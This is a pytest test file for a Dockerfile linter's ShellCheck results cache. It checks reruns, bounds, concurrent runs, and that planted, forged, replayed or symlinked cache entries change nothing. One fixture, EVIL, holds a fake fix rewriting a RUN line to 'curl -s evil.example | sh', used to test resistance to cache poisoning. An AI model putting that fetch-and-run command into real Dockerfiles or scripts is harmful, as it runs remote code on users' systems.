"""Issue 21, the persistent results cache: a re-run asks ShellCheck nothing and says the
same; it lives in .dockermig_cache/ at the project root (ignored by git), is skipped by
--no-cache, stays bounded, survives concurrent runs, and a hostile folder (planted,
forged or replayed entries, symlinks, a folder others can write) never changes what
DM700 says."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from dockermig import cache, shellcheck

pytestmark = pytest.mark.skipif(shellcheck.binary() is None, reason="shellcheck is not installed")

DOCKERFILE = "FROM debian:bookworm\nRUN cd /src && tar xf `ls *.tar`\nRUN echo $undefined\n"


@pytest.fixture
def project(tmp_path, monkeypatch):
    """A git repository to run in, the user cache (where the key lives) beside it, a
    shellcheck that logs how many scripts each process gets, an empty memory."""
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "svc").mkdir()
    (repo / "svc" / "Dockerfile").write_text(DOCKERFILE)
    monkeypatch.delenv("DOCKERMIG_CACHE_DIR", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    monkeypatch.chdir(repo)
    log = tmp_path / "calls.log"
    wrapper = tmp_path / "bin" / "shellcheck"
    wrapper.parent.mkdir()
    wrapper.write_text(f'#!/bin/sh\necho "$(($# - {len(shellcheck.ARGUMENTS)}))" >> "{log}"\n'
                       f'exec "{shutil.which(shellcheck.binary())}" "$@"\n')
    wrapper.chmod(0o755)
    monkeypatch.setenv("DOCKERMIG_SHELLCHECK", str(wrapper))
    monkeypatch.setattr(shellcheck, "_memory", {})
    return repo


def lint(capsys, monkeypatch, *args) -> tuple[int, str]:
    """One ``dockermig lint`` as a new run would make it: nothing remembered in memory."""
    from dockermig.cli import main

    monkeypatch.setattr(shellcheck, "_memory", {})
    code = main(["lint", *args])
    return code, capsys.readouterr().out


def scripts_checked(project: Path) -> int:
    log = project.parent / "calls.log"
    total = sum(int(n) for n in log.read_text().split()) if log.exists() else 0
    log.unlink(missing_ok=True)
    return total


def entries(folder: Path) -> list[Path]:
    return sorted(p for p in folder.iterdir() if p.name.startswith("shellcheck-")) if folder.is_dir() else []


def test_a_rerun_asks_shellcheck_nothing_and_says_the_same(project, capsys, monkeypatch):
    code, first = lint(capsys, monkeypatch, "svc")
    assert code == 1 and "SC2006" in first and "SC2154" in first
    assert scripts_checked(project) == 2
    folder = project / ".dockermig_cache"
    assert len(entries(folder)) == 2
    assert (folder / ".gitignore").read_text().splitlines()[-1] == "*"  # git never sees it
    assert not (folder / "key").exists()  # the key that signs entries is the user's, elsewhere
    assert (project.parent / "xdg" / "dockermig" / "key").stat().st_mode & 0o777 == 0o600
    assert lint(capsys, monkeypatch, "svc") == (code, first)
    assert scripts_checked(project) == 0
    (project / "svc" / "Dockerfile").write_text(DOCKERFILE + "RUN ls `pwd`\n")
    assert lint(capsys, monkeypatch, "svc")[0] == 1
    assert scripts_checked(project) == 1  # only the new RUN


def test_no_cache_neither_reads_nor_writes_it(project, capsys, monkeypatch):
    _, first = lint(capsys, monkeypatch, "--no-cache", "svc")
    assert not (project / ".dockermig_cache").exists()
    assert scripts_checked(project) == 2
    lint(capsys, monkeypatch, "svc")
    scripts_checked(project)
    assert lint(capsys, monkeypatch, "--no-cache", "svc")[1] == first
    assert scripts_checked(project) == 2


def plant(folder: Path, script: str, value, secret: bytes | None) -> Path:
    """Write the entry an attacker would make for ``script`` (its name is computable):
    signed with ``secret``, or with a signature of zeros."""
    import marshal

    from dockermig import parse

    executable = shellcheck.binary()
    [found] = [s for s in shellcheck.dockerfile_scripts(parse(DOCKERFILE)) if script in s.text]
    digest = cache._digest(shellcheck._store_key(executable, shellcheck._key(found, executable)))
    payload = marshal.dumps((digest, value))
    signature = cache._sign(secret, payload) if secret else b"\0" * 32
    path = folder / f"shellcheck-{digest[:20].hex()}"
    path.write_bytes(signature + payload)
    return path


# ShellCheck "says" the RUN should download and run a script: an unsafe fix that rewrites it
EVIL = ((2006, "warning", "Use this instead", 0, 5, ((0, 34, "curl -s evil.example | sh"),)),)


def test_planted_forged_and_replayed_entries_change_nothing(project, capsys, monkeypatch):
    from dockermig.cli import main

    _, honest = lint(capsys, monkeypatch, "--no-cache", "svc")
    folder = project / ".dockermig_cache"
    folder.mkdir(mode=0o700)
    plant(folder, "tar xf", EVIL, cache.user_secret())  # the control: the user's own key is believed
    assert "SC2006: Use this instead" in lint(capsys, monkeypatch, "svc")[1]
    for secret in (None, b"attacker's own key, not the user's"[:32].ljust(32, b"!")):
        plant(folder, "tar xf", EVIL, secret)
        assert lint(capsys, monkeypatch, "svc")[1] == honest
    # a genuine entry (signed with the user's key) copied to another script's name
    genuine = {p.name: p.read_bytes() for p in entries(folder)}
    target = plant(folder, "tar xf", EVIL, None)
    [(name, data)] = [(n, d) for n, d in genuine.items() if n != target.name]
    target.write_bytes(data)
    assert lint(capsys, monkeypatch, "svc")[1] == honest
    monkeypatch.setattr(shellcheck, "_memory", {})
    assert main(["fix", "--unsafe-fixes", "-q", "svc"]) in (0, 1)
    assert "evil.example" not in (project / "svc" / "Dockerfile").read_text()


def test_a_cache_folder_that_is_a_link_or_open_to_others_is_not_used(project, capsys, monkeypatch, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir(mode=0o700)
    (project / ".dockermig_cache").symlink_to(outside)
    _, honest = lint(capsys, monkeypatch, "svc")
    assert list(outside.iterdir()) == []  # nothing written through the link
    user = tmp_path / "xdg" / "dockermig"
    assert len(entries(user)) == 2  # the user cache stood in
    (project / ".dockermig_cache").unlink()
    shared = project / ".dockermig_cache"
    shared.mkdir()
    shared.chmod(0o777)
    plant(shared, "tar xf", EVIL, None)
    assert lint(capsys, monkeypatch, "svc")[1] == honest
    assert len(entries(shared)) == 1  # only the planted one: the folder was not used


def test_the_cache_stays_within_its_bounds(project, capsys, monkeypatch):
    monkeypatch.setattr(cache, "MAX_ENTRIES", 8)
    (project / "svc" / "Dockerfile").write_text(
        "FROM debian:bookworm\n" + "".join(f"RUN echo $v{i}\n" for i in range(20)))
    lint(capsys, monkeypatch, "svc")
    assert len(entries(project / ".dockermig_cache")) == 6  # pruned to three quarters, oldest first
    lint(capsys, monkeypatch, "svc")
    assert len(entries(project / ".dockermig_cache")) <= 8


def test_concurrent_runs_share_the_cache_safely(project):
    env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1"}
    for i in range(12):
        (project / "svc" / f"Dockerfile.{i}").write_text(
            "FROM debian:bookworm\n" + "".join(f"RUN echo $x{i}_{j} `id`\n" for j in range(4)) + "RUN ls `pwd`\n")
    command = [sys.executable, "-m", "dockermig", "lint", "-j", "1", "svc"]
    runs = [subprocess.Popen(command, cwd=project, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            for _ in range(3)]
    outputs = [run.communicate(timeout=120) for run in runs]
    assert all(run.returncode == 1 for run in runs), outputs[0][1]
    assert len({out for out, _ in outputs}) == 1 and b"Traceback" not in b"".join(err for _, err in outputs)
    folder = project / ".dockermig_cache"
    assert not [p for p in folder.iterdir() if p.name.startswith(".shellcheck-")]  # no temp file left
    scripts_checked(project)
    again = subprocess.run(command, cwd=project, env=env, capture_output=True, timeout=120)
    assert again.stdout == outputs[0][0] and scripts_checked(project) == 0  # every entry whole and valid


def test_another_shellcheck_binary_is_asked_again(project):
    env = dict(os.environ)
    command = [sys.executable, "-m", "dockermig", "lint", "svc"]
    first = subprocess.run(command, cwd=project, env=env, capture_output=True, timeout=120)
    assert scripts_checked(project) == 2
    wrapper = Path(os.environ["DOCKERMIG_SHELLCHECK"])
    os.utime(wrapper, ns=(wrapper.stat().st_atime_ns, wrapper.stat().st_mtime_ns + 10**9))  # "upgraded"
    second = subprocess.run(command, cwd=project, env=env, capture_output=True, timeout=120)
    assert second.stdout == first.stdout and scripts_checked(project) == 2


def test_an_entry_that_is_a_link_is_never_read_nor_written_through(project, capsys, monkeypatch, tmp_path):
    _, honest = lint(capsys, monkeypatch, "--no-cache", "svc")
    folder = project / ".dockermig_cache"
    folder.mkdir(mode=0o700)
    victim = tmp_path / "victim"
    victim.write_bytes(b"keep me\n")
    planted = plant(folder, "tar xf", EVIL, cache.user_secret())  # a valid entry, moved behind a link
    (tmp_path / "elsewhere").write_bytes(planted.read_bytes())
    planted.unlink()
    planted.symlink_to(tmp_path / "elsewhere")
    other = plant(folder, "echo $undefined", (), None)
    other.unlink()
    other.symlink_to(victim)
    assert lint(capsys, monkeypatch, "svc")[1] == honest  # the link was not followed to the valid entry
    assert victim.read_bytes() == b"keep me\n"
    assert not planted.is_symlink() and not other.is_symlink()  # replaced by real entries
